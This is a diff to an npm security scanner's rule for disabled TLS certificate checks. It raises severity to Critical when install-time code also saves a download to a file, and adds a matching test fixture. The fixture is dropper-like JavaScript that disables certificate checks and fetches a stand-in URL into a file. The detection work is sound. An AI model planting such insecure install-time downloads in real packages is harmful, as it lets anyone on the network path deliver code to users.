@@ -9,6 +9,8 @@ declare_rule! {
     /// `process.env.NODE_TLS_REJECT_UNAUTHORIZED = 0` (for the whole
     /// process) or `rejectUnauthorized: false`. High in install-time code,
     /// medium elsewhere (development tools do it for self-signed servers).
+    /// Critical when install-time code that does it also saves a network
+    /// response to a file: a dropper that accepts any certificate.
     ///
     /// ## Why is this bad?
     /// Anyone on the network path can then impersonate any server. Install
@@ -41,18 +43,36 @@ impl Rule for TlsVerificationDisabled {
             if !seen.insert(o.at.location.path.clone()) {
                 continue;
             }
-            let severity = if o.at.install_time {
-                Severity::High
+            // At install, in a file that also saves what it downloads: the
+            // installer takes a file from whatever answers, certificate or not.
+            let drops = o.at.install_time
+                && ctx.facts.other.iter().any(|d| {
+                    d.kind == "download-to-file"
+                        && d.at.install_time
+                        && d.at.location.path == o.at.location.path
+                });
+            let (severity, message) = if drops {
+                (
+                    Severity::Critical,
+                    format!(
+                        "switches off TLS certificate checks (`{}`) and saves a download, at install",
+                        o.detail
+                    ),
+                )
+            } else if o.at.install_time {
+                (
+                    Severity::High,
+                    format!("switches off TLS certificate checks (`{}`)", o.detail),
+                )
             } else {
-                Severity::Medium
+                (
+                    Severity::Medium,
+                    format!("switches off TLS certificate checks (`{}`)", o.detail),
+                )
             };
             out.push(
                 ctx.at(
-                    Finding::new(
-                        Self::META.id,
-                        severity,
-                        format!("switches off TLS certificate checks (`{}`)", o.detail),
-                    ),
+                    Finding::new(Self::META.id, severity, message),
                     &o.at.location,
                 )
                 .at_install_time(o.at.install_time)
@@ -72,6 +92,7 @@ mod tests {
         Tester::new(&TlsVerificationDisabled::META).test(
             &[
                 Case::InstallJs("process.env['NODE_TLS_REJECT_UNAUTHORIZED'] = 0;\nrequire('axios').get('https://x.invalid/a');"),
+                Case::InstallJs("const fs = require('fs');\nfunction fetchTo(file, url) {\n  const res = require('sync-request')('GET', url);\n  fs.writeFileSync(file, res.getBody());\n}\nprocess.env['NODE_TLS_REJECT_UNAUTHORIZED'] = 0;\nfetchTo('token', 'https://x.invalid/t.php');"),
                 Case::Js("https.request({ host: 'x.invalid', rejectUnauthorized: false });"),
             ],
             &[
